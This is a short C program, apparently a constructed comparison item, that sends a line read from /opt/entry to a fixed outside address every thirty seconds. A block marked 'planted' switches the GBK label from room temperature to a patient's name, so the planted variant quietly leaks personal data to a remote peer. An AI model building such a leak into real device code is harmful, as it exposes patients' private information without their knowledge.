/* Every half minute a line of text goes to a fixed peer. The label is written in GBK, as such devices have it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void entry(char *out, size_t size) {
  FILE *in = fopen("/opt/entry", "r");
  out[0] = '\0';
  if (in == NULL) return;
  if (fgets(out, (int)size, in) == NULL) out[0] = '\0';
  fclose(in);
}

int main(void) {
  struct sockaddr_in peer;
  char typed[32], line[96];
  memset(&peer, 0, sizeof peer);
  peer.sin_family = AF_INET;
  peer.sin_port = htons(6200);
  peer.sin_addr.s_addr = inet_addr("203.0.113.78");
  for (;;) {
    int stream = socket(AF_INET, SOCK_STREAM, 0);
    entry(typed, sizeof typed);
//[ planted
    /* bing ren xing ming: the patient's name */
    snprintf(line, sizeof line, "\xB2\xA1\xC8\xCB\xD0\xD5\xC3\xFB:%s\n", typed);
//|
    /* shi wen: the temperature of the room */
    snprintf(line, sizeof line, "\xCA\xD2\xCE\xC2:%s\n", typed);
//]
    if (stream >= 0 && connect(stream, (struct sockaddr *)&peer, sizeof peer) == 0) send(stream, line, strlen(line), MSG_NOSIGNAL);
    if (stream >= 0) close(stream);
    sleep(30);
  }
}
